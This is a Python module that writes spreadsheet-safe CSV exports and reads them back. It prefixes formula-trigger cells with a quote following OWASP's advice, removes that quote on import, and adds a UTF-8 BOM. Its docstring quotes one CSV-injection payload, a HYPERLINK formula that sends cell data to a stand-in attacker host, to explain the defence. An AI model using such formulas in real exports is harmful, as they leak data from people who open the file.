"""CSV the app writes for spreadsheets, and reading it back: the one place for both rules.

Spreadsheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and
strip a leading tab or carriage return before looking), so a name such as
``=HYPERLINK("https://evil.example/?"&A1, "Klick")`` typed into the registry would run on
the caseworker's machine when the export is opened (CSV/formula injection). Following
OWASP's rule such a cell is written with a single quote in front, which spreadsheets show
as text and hide.

To read the app's own exports back unchanged the quote must be removable without guessing.
A cell is *escaped* when it starts with a quote followed by one of the trigger characters
or by another quote. Writing escapes a value that starts with a trigger character and a
value that would itself look escaped (``'=x`` is written ``''=x``); reading removes one
quote from an escaped cell only. So ``restore(neutralise(v)) == v`` for every value, and a
foreign file's ``'t Hooft`` (a quote before an ordinary letter) is read as it stands.

Exports start with a UTF-8 byte order mark: without it, Excel set to German reads UTF-8 as
Windows-1252 and shows "MÃ¼ller". The registry import takes the BOM as telling UTF-8 and
drops it (exchange.spreadsheet_encoding, which reads Windows-1252 and UTF-16 files too).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

BOM = "\ufeff"
QUOTE = "'"
FORMULA_TRIGGERS = frozenset("=+-@\t\r")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def _looks_escaped(text: str) -> bool:
    return len(text) > 1 and text[0] == QUOTE and (text[1] in FORMULA_TRIGGERS or text[1] == QUOTE)


def neutralise(value: Any) -> str:
    """The cell text for a value: ``str(value)`` (``None`` is empty), with a quote in front
    when a spreadsheet would take it as a formula or when it would look escaped itself."""
    text = "" if value is None else str(value)
    if text and (text[0] in FORMULA_TRIGGERS or _looks_escaped(text)):
        return QUOTE + text
    return text


def restore(cell: str) -> str:
    """The value a cell written by ``neutralise`` stood for (other cells as they are)."""
    return cell[1:] if _looks_escaped(cell) else cell


class SafeWriter:
    """``csv.writer`` whose rows go through ``neutralise``; the caller writes ``BOM`` first."""

    def __init__(self, stream: _Writable, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        """Write one row, each cell neutralised."""
        self._writer.writerow([neutralise(value) for value in row])
